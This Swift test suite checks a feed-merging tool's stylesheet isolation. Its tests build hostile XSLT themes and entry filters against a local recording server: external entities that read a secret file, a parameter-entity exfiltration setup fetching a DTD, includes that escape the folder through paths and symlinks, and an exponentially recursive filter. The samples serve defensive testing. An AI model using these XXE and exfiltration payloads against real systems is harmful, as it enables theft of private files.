import FeedFetch
import Foundation
import TestSupport
import Testing

/// A theme's or an XSLT filter's author (SECURITY.md, line 6): stylesheets
/// are compiled with no network and no file outside their own folder (its
/// includes, imports, DTDs and entities), and a filter is stopped at its
/// time limit like a theme. Each attack is run through the real binary,
/// with real files, links and a real server on 127.0.0.1 that records every
/// request it gets.
@Suite(.serialized) struct StylesheetIsolationTests {
    static let server = PlanetServer.hostile
    var server: LocalServer { Self.server }

    /// A theme folder, and beside it, outside the folder, a secret file and a stylesheet.
    final class Folder {
        let w: StateTests.Workspace
        let theme: String
        let secret: String
        let outside: String
        static let secretText = "TOP SECRET \(getpid())"

        init(_ name: String) throws {
            w = try StateTests.Workspace("stylesheet-\(name)")
            theme = w.path("theme")
            outside = w.path("outside")
            for folder in [theme, outside, theme + "/sub"] {
                try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            }
            secret = outside + "/secret.txt"
            try write(secret, Self.secretText)
            try write(outside + "/inc.xsl", StylesheetIsolationTests.included("OUTSIDE INCLUDE"))
        }

        func write(_ path: String, _ text: String) throws {
            try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        }
    }

    /// A stylesheet whose template `x` writes `marker`.
    static func included(_ marker: String) -> String {
        """
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
        <xsl:template name="x"><p>\(marker)</p></xsl:template></xsl:stylesheet>
        """
    }

    /// A page theme that includes `href` and calls its template `x`.
    static func including(_ href: String) -> String {
        """
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
        <xsl:include href="\(href)"/><xsl:output method="html"/>
        <xsl:template match="/"><html><body><xsl:call-template name="x"/></body></html></xsl:template>
        </xsl:stylesheet>
        """
    }

    func log() async throws -> String {
        String(decoding: try await HTTPClient().fetch(FetchRequest(url: server.url("/log"))).body, as: UTF8.self)
    }

    /// Runs the merge of the hostile server's plain feed into a page made by `theme`.
    func page(_ f: Folder, theme: String, _ more: [String] = []) async throws -> (run: CommandRun, page: String?) {
        let run = try await CommandRun.feedmerge(
            [server.url("/feed.xml"), "--no-state", "-o", f.w.path("index.html"), "--theme", theme] + more)
        return (run, try? String(contentsOfFile: f.w.path("index.html"), encoding: .utf8))
    }

    @Test func aThemesExternalEntityReadsNoFile() async throws {
        let f = try Folder("entity")
        try f.write(
            f.theme + "/entity.xsl",
            """
            <?xml version="1.0"?>
            <!DOCTYPE xsl:stylesheet [<!ENTITY s SYSTEM "file://\(f.secret)">]>
            <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
            <xsl:output method="html"/>
            <xsl:template match="/"><html><body><p>[&s;]</p></body></html></xsl:template>
            </xsl:stylesheet>
            """)
        let (run, page) = try await page(f, theme: f.theme + "/entity.xsl")
        #expect(!run.standardError.contains(Folder.secretText))
        #expect(page.map { !$0.contains(Folder.secretText) && $0.contains("[]") } ?? true, "\(page ?? "")")
    }

    @Test(arguments: [[], ["--public-only"]])
    func aThemeIncludesNothingFromTheNetwork(more: [String]) async throws {
        let f = try Folder("network\(more.count)")
        let token = "theme-include-\(getpid())-\(more.count)"
        try f.write(f.theme + "/remote.xsl", Self.including(server.url("/inc.xsl?t=\(token)")))
        let (run, page) = try await page(f, theme: f.theme + "/remote.xsl", more)
        #expect(run.status == 2, "\(run.standardError)")
        #expect(
            run.standardError.contains(
                "is not read: a stylesheet reads only files in its own folder, never the network"))
        #expect(page == nil)
        #expect(!(try await log()).contains(token))
    }

    @Test func anIncludedStylesheetsParameterEntitiesSendNothing() async throws {
        let f = try Folder("parameter")
        let token = "parameter-entity-\(getpid())"
        try f.write(
            f.theme + "/sub/inc.xsl",
            """
            <?xml version="1.0"?>
            <!DOCTYPE xsl:stylesheet [
              <!ENTITY % file SYSTEM "file://\(f.secret)">
              <!ENTITY % dtd SYSTEM "\(server.url("/evil.dtd?t=\(token)"))">
              %dtd; %send;
            ]>
            \(Self.included("IN FOLDER"))
            """)
        try f.write(f.theme + "/theme.xsl", Self.including("sub/inc.xsl"))
        let (run, page) = try await page(f, theme: f.theme + "/theme.xsl")
        let requests = try await log()
        #expect(!requests.contains(token) && !requests.contains("/leak"), "\(requests)")
        #expect(!run.standardError.contains(Folder.secretText))
        #expect(page.map { !$0.contains(Folder.secretText) } ?? true)
    }

    @Test func aThemeIncludesOnlyFromItsOwnFolder() async throws {
        let f = try Folder("confined")
        try f.write(f.theme + "/sub/inc.xsl", Self.included("IN FOLDER"))
        try FileManager.default.createSymbolicLink(atPath: f.theme + "/link", withDestinationPath: f.outside)
        try FileManager.default.createSymbolicLink(
            atPath: f.theme + "/linked.xsl", withDestinationPath: f.outside + "/inc.xsl")
        // Inside the folder, in a subfolder: read.
        try f.write(f.theme + "/inside.xsl", Self.including("sub/inc.xsl"))
        let inside = try await page(f, theme: f.theme + "/inside.xsl")
        #expect(inside.run.status == 0, "\(inside.run.standardError)")
        #expect(inside.page?.contains("IN FOLDER") == true)
        // Out of it by a path, by an absolute file: URL, through a folder link or a file link: refused.
        for href in ["../outside/inc.xsl", "file://\(f.outside)/inc.xsl", "link/inc.xsl", "linked.xsl"] {
            try? FileManager.default.removeItem(atPath: f.w.path("index.html"))
            try f.write(f.theme + "/escape.xsl", Self.including(href))
            let (run, page) = try await page(f, theme: f.theme + "/escape.xsl")
            #expect(run.status == 2, "\(href): \(run.standardError)")
            #expect(run.standardError.contains("a stylesheet reads only files in its own folder"), "\(href)")
            #expect(page == nil, "\(href)")
        }
    }

    /// An XSLT entry filter that copies each entry and puts `title` in its title.
    static func filter(doctype: String = "", include: String = "", title: String) -> String {
        """
        <?xml version="1.0"?>
        \(doctype)
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
            xmlns:atom="http://www.w3.org/2005/Atom">
        \(include)
        <xsl:template match="atom:title"><atom:title type="text">\(title)</atom:title></xsl:template>
        <xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>
        </xsl:stylesheet>
        """
    }

    func filtered(_ f: Folder, filter: String, _ more: [String] = []) async throws -> CommandRun {
        try await CommandRun.feedmerge(
            [server.url("/feed.xml"), "--no-state", "-o", "-", "--format", "json", "--entry-filter", filter] + more)
    }

    @Test func anEntryFiltersExternalEntityReadsNoFile() async throws {
        let f = try Folder("filter-entity")
        try f.write(
            f.theme + "/filter.xslt",
            Self.filter(
                doctype: "<!DOCTYPE xsl:stylesheet [<!ENTITY s SYSTEM \"file://\(f.secret)\">]>",
                title: "Filtered [&s;]"))
        let run = try await filtered(f, filter: f.theme + "/filter.xslt")
        #expect(!run.standardOutput.contains(Folder.secretText) && !run.standardError.contains(Folder.secretText))
        #expect(run.standardOutput.contains("Filtered []"), "\(run.standardOutput) \(run.standardError)")
    }

    @Test func anEntryFilterIncludesNothingFromTheNetwork() async throws {
        let f = try Folder("filter-network")
        let token = "filter-include-\(getpid())"
        try f.write(
            f.theme + "/filter.xslt",
            Self.filter(include: "<xsl:include href=\"\(server.url("/inc.xsl?t=\(token)"))\"/>", title: "Filtered"))
        let run = try await filtered(f, filter: f.theme + "/filter.xslt")
        #expect(run.status == 2, "\(run.standardError)")
        #expect(run.standardError.contains("never the network"), "\(run.standardError)")
        #expect(!(try await log()).contains(token))
    }

    @Test func aRunawayEntryFilterIsStoppedAndItsEntriesStayAsTheyWere() async throws {
        let f = try Folder("filter-runaway")
        try f.write(
            f.theme + "/doubling.xslt",
            """
            <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
              <xsl:template match="/"><xsl:call-template name="t"><xsl:with-param name="n" select="60"/>
                </xsl:call-template><xsl:copy-of select="."/></xsl:template>
              <xsl:template name="t"><xsl:param name="n"/><xsl:if test="$n &gt; 0">
                <xsl:call-template name="t"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
                <xsl:call-template name="t"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
              </xsl:if></xsl:template>
            </xsl:stylesheet>
            """)
        let start = Date()
        let run = try await filtered(f, filter: f.theme + "/doubling.xslt", ["--theme-timeout", "1"])
        #expect(Date().timeIntervalSince(start) < 20)
        #expect(run.standardOutput.contains("Plain entry"), "\(run.standardError)")
        let said = run.standardError.split(separator: "\n").filter { $0.contains("stopped after 1 s") }
        #expect(said.count == 1 && said[0].contains("doubling.xslt"), "\(run.standardError)")
    }
}
